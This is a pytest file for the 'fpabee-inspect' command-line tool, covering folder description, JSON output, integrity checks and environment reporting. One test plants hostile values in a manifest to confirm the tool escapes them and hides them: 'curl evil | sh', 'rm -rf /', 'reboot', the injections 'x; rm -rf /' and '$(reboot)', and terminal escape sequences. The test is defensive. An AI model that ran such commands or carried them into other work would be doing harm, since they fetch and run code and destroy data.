"""`fpabee-inspect`: what a folder holds, and why a target cannot run here."""

from __future__ import annotations

import json
import sys
import types
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner, Result

from fpabee import __version__
from fpabee.runtime import Budget
from fpabee.runtime.artifact.folder import read_manifest, sha256_of, write_manifest
from fpabee.runtime.artifact.manifest import REFERENCE_NAME, NotBuilt
from fpabee.runtime.artifact.reference import read_reference, write_reference
from fpabee.runtime.backends.cuda_probe import CudaDevice
from fpabee.runtime.cli.inspect import chain_table, main
from fpabee.runtime.inspection import Part, chain_parts, target_states

from ...doubles.device import install


def run(*arguments: object) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def test_a_folder_is_described(
    engine_copy: Callable[..., Path], set_points: Callable[..., None]
) -> None:
    folder = engine_copy("mpnet")
    set_points(folder, default="safe", fast=Budget(exit=1), safe=Budget(exit=3))
    result = run(folder)
    assert result.exit_code == 0, result.output
    for part in (
        "mpnet, 3 layers of 32",
        "exits: 1, 2, 3",
        "onnxruntime-fp32 (default)",
        " fast, safe (default) ",
        " runs",
        "rule without an operating point: fpabee, threshold 0.1, measure jskd, ",
    ):
        assert part in result.stdout


NASTY = "\x1b]0;title\x07\x1b[2J\u202e[red]"


def test_names_from_files_are_escaped_and_no_command_of_theirs_is_shown(
    engine_copy: Callable[..., Path], set_points: Callable[..., None]
) -> None:
    folder = engine_copy()
    set_points(folder, **{NASTY: Budget(exit=1)})
    manifest = read_manifest(folder)
    notes = {
        "known": NotBuilt(
            backend="tensorrt", precision="fp16", reason=NASTY, command="curl evil | sh"
        ),
        NASTY: NotBuilt(backend="x; rm -rf /", precision="fp16", reason="", command="rm -rf /"),
        "odd": NotBuilt(backend="tensorrt", precision="$(reboot)", reason="", command="reboot"),
    }
    task = msgspec.structs.replace(manifest.task, labels=(NASTY, *manifest.task.labels[1:]))
    changed = msgspec.structs.replace(manifest, task=task, not_built=notes)
    write_manifest(folder, changed)
    shown = run(folder).stdout
    assert "\\x1b]0;title\\x07\\x1b[2J\\u202e[red]" in shown
    assert shown.replace("\n", "").isprintable()
    assert f"  to build it: fpabee-export --from {folder} --backend tensorrt --fp16\n" in shown
    assert shown.count("  to build it: pip install -U fpabee\n") == 2
    for command in ("curl", "rm -rf", "reboot"):
        assert command not in shown
    content = json.loads(run(folder, "--json").stdout)
    assert content["labels"][0] == NASTY
    assert content["not_built"]["known"]["command"] == "curl evil | sh"


def test_json_holds_the_same(engines: Mapping[str, Path]) -> None:
    content = json.loads(run(engines["bert"], "--env", "--json").stdout)
    assert content["exits"] == [1, 2, 3]
    (target,) = content["targets"]
    assert target["name"] == "onnxruntime-fp32"
    assert target["why_not"] == ""
    assert target["size"] > 10_000
    assert content["environment"]["fpabee"] == __version__
    assert "onnxruntime" in content["environment"]


def test_the_chain_is_a_table(engines: Mapping[str, Path]) -> None:
    folder = engines["albert"]
    manifest = read_manifest(folder)
    parts = chain_parts(folder, manifest)
    assert [part.layers for part in parts] == [(1, 1), (2, 2), (3, 3)]
    sizes = [(folder / graph.file).stat().st_size for graph in manifest.graphs.values()]
    assert sum(part.size or 0 for part in parts) == sum(sizes)
    # Every segment calls the shared block, which is stored once.
    assert set(parts[0].calls) & set(parts[2].calls)
    rows = [line.split() for line in run(folder).stdout.splitlines()]
    for number, part in enumerate(parts, start=1):
        (row,) = [row for row in rows if row[:2] == [str(number), str(number)]]
        assert row[3] == str(len(part.calls))


def test_several_layers_and_repeated_calls_are_one_row() -> None:
    parts = [
        Part(1, (1, 4), ("embed", "block", "block", "block", "block", "head"), 3 * 2**20),
        Part(2, (5, 5), ("block",), None),
    ]
    cells = [list(column.cells) for column in chain_table(parts).columns]
    assert list(zip(*cells, strict=True)) == [
        ("1", "1-4", "3.0", "6", "embed, block x4, head"),
        ("2", "5", "missing", "1", "block"),
    ]


@pytest.mark.parametrize("family", ["bert", "albert"])
def test_a_whole_folder_passes_the_check(engines: Mapping[str, Path], family: str) -> None:
    result = run(engines[family], "--check")
    assert result.exit_code == 0, result.output
    assert "onnxruntime-fp32 reproduces the exported model: logits differ by" in result.stdout
    content = json.loads(run(engines[family], "--check", "--json").stdout)["check"]
    assert content["passed"]
    assert content["damaged"] == []
    assert content["refused"] == {}
    assert list(content["parity"]) == ["onnxruntime-fp32"]
    manifest = read_manifest(engines[family])
    assert content["files"] == 1 + len(manifest.graphs) + len(manifest.files)


@pytest.mark.parametrize("damage", ["missing", "changed", "another model"])
def test_the_check_says_what_is_wrong(engine_copy: Callable[..., Path], damage: str) -> None:
    folder = engine_copy()
    manifest = read_manifest(folder)
    file = folder / list(manifest.graphs.values())[1].file
    if damage == "missing":
        file.unlink()
    elif damage == "changed":
        file.write_bytes(file.read_bytes()[:-1] + b"!")
    else:
        texts, logits = read_reference(folder, manifest)
        write_reference(folder, texts, -logits)
        files = {**manifest.files, REFERENCE_NAME: sha256_of(folder / REFERENCE_NAME)}
        write_manifest(folder, msgspec.structs.replace(manifest, files=files))
    result = run(folder, "--check", "--json")
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: ")
    content = json.loads(result.stdout)["check"]
    assert not content["passed"]
    if damage == "another model":
        assert content["damaged"] == []
        assert "is not the model that was exported" in content["refused"]["onnxruntime-fp32"]
    else:
        (message,) = content["damaged"]
        assert file.name in message
        assert ("is missing" if damage == "missing" else "is damaged") in message
    shown = run(folder, "--check")
    assert shown.exit_code == 1
    assert ("refused" if damage == "another model" else file.name) in shown.stdout


def test_the_environment_is_for_a_bug_report() -> None:
    lines = run("--env").stdout.splitlines()
    names = [line.split(": ")[0] for line in lines]
    assert {"fpabee", "python", "numpy", "onnxruntime", "system", "cpu", "gpu", "providers"} <= {
        *names
    }
    assert "CPUExecutionProvider" in lines[names.index("providers")]


def test_without_onnxruntime_there_is_an_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "onnxruntime", None)
    assert run("--env").exit_code == 0
    assert "providers: none: " in run("--env").stdout
    monkeypatch.setitem(sys.modules, "onnxruntime", types.ModuleType("onnxruntime"))
    assert "onnxruntime is damaged" in run("--env").stdout


def test_sizes_need_no_inference_library(
    engines: Mapping[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = engines["bert"]
    manifest = read_manifest(folder)
    size = sum((folder / graph.file).stat().st_size for graph in manifest.graphs.values())
    monkeypatch.setitem(sys.modules, "onnxruntime", None)
    (state,) = target_states(folder, manifest)
    assert "onnxruntime" in state.unavailable_reason
    assert state.size == size


@pytest.mark.parametrize(
    ("rule", "problem"),
    [({"name": "budget", "exit": 9}, "exit is 9, but the model has 3"), ({"name": "x"}, "'x'")],
)
@pytest.mark.parametrize("where", ["default operating point 'fast'", "default rule"])
def test_a_rule_that_cannot_be_used_is_named(
    engine_copy: Callable[..., Path],
    set_points: Callable[..., None],
    rule: dict[str, Any],
    problem: str,
    where: str,
) -> None:
    folder = engine_copy()
    if where != "default rule":
        set_points(folder, default="fast", fast=Budget(exit=1))
    manifest = read_manifest(folder)
    ((name, target),) = manifest.targets.items()
    points = {
        point: msgspec.structs.replace(content, rule=rule)
        for point, content in target.operating_points.items()
    }
    bad = msgspec.structs.replace(target, operating_points=points)
    write_manifest(
        folder, msgspec.structs.replace(manifest, targets={name: bad}, default_rule=rule)
    )
    shown = run(folder)
    assert shown.exit_code == 0, shown.output
    assert f"runs, but its {where} cannot be used: " in shown.stdout
    assert problem in shown.stdout
    (state,) = json.loads(run(folder, "--json").stdout)["targets"]
    assert state["why_not"] == ""
    assert problem in state["no_rule"]
    assert run(folder, "--check").exit_code == 1


def test_targets_that_cannot_run_say_why(
    engine_copy: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = engine_copy()
    made = install(monkeypatch, folder)
    states = {s.name: s.unavailable_reason for s in target_states(folder, read_manifest(folder))}
    assert states == {"onnxruntime-fp32": "", made.target: ""}
    none = CudaDevice(error="no NVIDIA driver is installed")
    monkeypatch.setattr("fpabee.runtime.backends.cuda_probe.cuda_device", lambda: none)
    states = {s.name: s.unavailable_reason for s in target_states(folder, read_manifest(folder))}
    assert "needs an NVIDIA GPU, but no NVIDIA driver" in states[made.target]
    (folder / "targets" / made.target / "segment_01.plan").unlink()
    states = {s.name: s.unavailable_reason for s in target_states(folder, read_manifest(folder))}
    assert "segment_01.plan is missing" in states[made.target]


def test_usage_and_missing_folders(tmp_path: Path) -> None:
    assert run().exit_code == 2
    assert run("--env", "--check").exit_code == 2
    result = run(tmp_path / "none")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert "fpabee-export" in result.stderr
